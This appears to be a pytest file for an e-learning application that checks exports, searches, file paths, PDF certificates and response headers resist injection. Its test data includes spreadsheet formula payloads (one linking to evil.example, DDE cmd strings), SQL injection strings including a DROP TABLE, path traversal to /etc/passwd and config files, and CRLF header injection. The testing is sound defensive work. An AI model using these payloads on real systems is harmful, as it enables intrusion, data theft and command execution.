"""Injection: what people type is no formula, no command, no path and no code in files, papers, queries and folders."""

import csv
import io

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import func, select

from elearn.certification import paper
from elearn.core.db import db
from elearn.core.tables import Format, strip
from elearn.people import queries
from elearn.people.models import User
from elearn.reporting import queries as reporting
from elearn.reporting.access import EVERYWHERE
from elearn.reporting.rules import Wanted
from elearn.reporting.service import take_records
from tests.access_table import OPEN, TABLE
from tests.factories import people as make
from tests.factories.certificates import MADE_AT, claim
from tests.factories.reporting import completion
from tests.support.surface import PAYLOAD
from tests.test_access import address_of

FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A2;"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1 fullwidth",
    "'=1+1 apostrophe",
    '"=1+1", quoted',
    "a;=1+1",
]


@pytest.fixture
def named(app, dawit):
    """Completions of people whose names are formulas, as they may type them when they register."""
    for number, formula in enumerate(FORMULAS):
        completion(make.user(formula, name_arabic=formula, email=f"f{number}@example.org", country="NE"))
    return dawit


@pytest.mark.parametrize("form", ["csv", "csv-semicolon", "xlsx"])
def test_a_name_is_no_formula_in_an_export(named, browser, form):
    sent = {"format": form, "lang": "en", "purpose": "To see what a spreadsheet makes of it"}
    answer = browser(named).post("/manage/records/export", data=sent)
    assert answer.status_code == 200
    if form == "xlsx":
        sheet = load_workbook(io.BytesIO(answer.data)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells if isinstance(cell.value, str)} == {"s"}
        assert [cell for cell in cells if cell.hyperlink] == []
        names = {cell.value for cell in cells}
    else:
        rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig")), delimiter="," if form == "csv" else ";"))
        cells = [cell for row in rows[1:] for cell in row]
        assert [cell for cell in cells if cell[:1] in "=+@＝" and cell] == []
        assert [cell for cell in cells if cell.startswith("-")] == []
        names = {strip(cell) for cell in cells}
    assert set(FORMULAS) <= names


QUERIES = [
    "' OR '1'='1",
    "'; DROP TABLE counted_event; --",
    "%",
    "_",
    "\\",
    "%' ESCAPE '",
    '" OR 1=1 --',
    "$1",
    ":x",
    "%s",
    "{0}",
]


@pytest.mark.parametrize("text", QUERIES)
def test_what_is_searched_for_is_a_value(app, amina, dawit, browser, text):
    one, everybody = browser(dawit), db.session.scalar(select(func.count()).select_from(User))
    for address, name in (
        ("/manage/people", "q"),
        ("/manage/certificates", "q"),
        ("/courses/", "q"),
        ("/verify/", "code"),
    ):
        answer = one.get(address, query_string={name: text})
        assert answer.status_code in (200, 404), address
        assert "Amina Issoufou" not in answer.text
    assert queries.account_by_email(text) is None
    db.session.rollback()
    assert db.session.scalar(select(func.count()).select_from(User)) == everybody


@pytest.mark.parametrize("text", QUERIES)
def test_so_is_a_filter_of_an_export_which_the_database_writes_by_itself(named, fresh_context, text):
    """PostgreSQL's COPY takes no parameters: the values stand in its text."""
    with fresh_context():
        taken = take_records(None, Wanted(course=text, country=text), Format.CSV, "en")
        assert taken.spooled.rows == 0
        taken.spooled.close()
        assert reporting.count(Wanted(), EVERYWHERE).completions == len(FORMULAS)


@pytest.mark.one_database
@pytest.mark.parametrize(
    "path",
    [
        "../../config.py",
        "..%2f..%2fconfig.py",
        "%2e%2e/%2e%2e/config.py",
        "....//....//config.py",
        "..\\..\\config.py",
        "/etc/passwd",
        "//etc/passwd",
        "map.svg/../../../../config.py",
        "map.svg%00.png",
    ],
)
def test_no_path_leads_out_of_its_folder(busy_academy, visitor, path):
    for start in (
        f"/courses/{busy_academy.slug}/files/{busy_academy.asset[:16]}/",
        "/static/",
        "/static/css/",
        "/help/",
    ):
        answer = visitor.get(start + path)
        assert answer.status_code in (308, 400, 404), start
        assert "SECRET_KEY" not in answer.text and "root:" not in answer.text


@pytest.mark.one_database
def test_a_name_brings_nothing_into_a_paper_but_itself():
    """No address, no script, no file of this machine; and the engine would refuse them, see core.pdf."""
    hostile = f"<img src=file:///etc/passwd>{PAYLOAD}<a href=https://evil.example>"
    pdf = paper.produce(claim(name_latin=hostile), "classic@1", MADE_AT)
    for forbidden in (b"/JavaScript", b"/JS", b"/Launch", b"/SubmitForm", b"/OpenAction", b"/URI", b"root:"):
        assert forbidden not in pdf
    reader = PdfReader(io.BytesIO(pdf))
    assert list(reader.attachments) == ["certificate.json"]
    assert "file:///etc/passwd" in "".join(page.extract_text() for page in reader.pages)


@pytest.mark.one_database
def test_no_header_of_an_answer_is_written_by_others(app, busy_academy, browser):
    one = browser(make.persona("Dawit"))
    for row in (row for row in TABLE if OPEN in (row.dawit, row.visitor) and row.method == "GET"):
        broken = "x\r\nSet-Cookie: stolen=1\r\n\r\n<script>"
        answer = one.get(address_of(row, app, busy_academy), query_string={"next": broken, "lang": broken, "q": broken})
        assert "stolen" not in str(answer.headers), row
